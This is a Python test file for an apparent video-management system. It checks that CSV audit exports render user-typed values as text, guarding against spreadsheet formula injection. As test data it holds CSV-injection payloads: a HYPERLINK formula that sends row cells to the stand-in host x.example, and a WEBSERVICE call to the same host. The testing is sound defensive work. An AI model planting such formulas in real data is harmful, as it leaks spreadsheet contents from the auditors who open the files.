"""Formulas typed by the people audited, in the CSV files their auditors open in a
spreadsheet (CSV injection): the PTZ audit (PSCS-5) and the monthly audit (OPS-7, TAG-7).
A cell starting with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel, LibreOffice and
Google Sheets; it must arrive as text (a leading apostrophe). Each case failed before
its fix: the cell was written as typed."""

from __future__ import annotations

import csv
import dataclasses
import io

from flask.testing import FlaskClient

from vms.audit.log import Who
from vms.audit.monthly_out import to_csv
from vms.auth.permissions import Actor
from vms.services import Services

# Sends the row's other cells to whoever runs x.example when the auditor clicks it.
FORMULA = '=HYPERLINK("http://x.example/?"&A2&B2,"C-9")'
MONTH = "2026-10"


def spreadsheet_formulas(text: str) -> list[str]:
    """The cells of CSV ``text`` a spreadsheet would evaluate."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]


def test_ptz_audit_csv_gives_an_operators_incident_number_as_text_PSCS_5(
    client: FlaskClient, services: Services, tokens: dict[str, str]
) -> None:
    """A dispatcher's incident number (free text, ``OpenSessionIn``) is in the entry of
    their PTZ session as typed; the auditor's CSV gives it as text, not as a formula
    (PSCS-5: misuse is investigated from this file, by people other than the operator)."""
    services.audit.record(
        services.db,
        Who("dispatcher", "dispatcher"),
        "ptz.session.open",
        "camera:cam-1",
        details={
            "session_id": "s1",
            "camera_id": "cam-1",
            "user": "dispatcher",
            "purpose": "event",
            "incident_number": FORMULA,
        },
    )
    got = client.get(
        "/api/v1/audit/ptz?format=csv",
        headers={"Authorization": f"Bearer {tokens['auditor']}"},
    )
    assert got.status_code == 200 and got.mimetype == "text/csv"
    text = got.get_data(as_text=True)
    assert spreadsheet_formulas(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["incident_number"] for r in rows] == ["'" + FORMULA]
    # The JSON keeps the value as it was typed: only the spreadsheet form is changed.
    listed = client.get(
        "/api/v1/audit/ptz", headers={"Authorization": f"Bearer {tokens['auditor']}"}
    ).json
    assert [e["incident_number"] for e in listed["entries"]] == [FORMULA]


def test_monthly_audit_csv_gives_a_claimed_badge_as_text_OPS_7(
    services: Services, actors: dict[str, Actor]
) -> None:
    """An upload may claim a badge (1-32 printable characters, INV-1 ingest) and its
    tagging failures are counted per badge (TAG-3); in the monthly CSV that badge is
    text, not a formula (OPS-7)."""
    report = services.monthly_audit.report(actors["auditor"], MONTH)
    report = dataclasses.replace(
        report, tagging_failures_per_officer={'=WEBSERVICE("http://x.example")': 3}
    )
    text = to_csv(report)
    assert spreadsheet_formulas(text) == []
    rows = [r for r in csv.DictReader(io.StringIO(text)) if r["metric"] == "tagging_failures"]
    assert [(r["officer"], r["value"]) for r in rows] == [
        ('\'=WEBSERVICE("http://x.example")', "3")
    ]
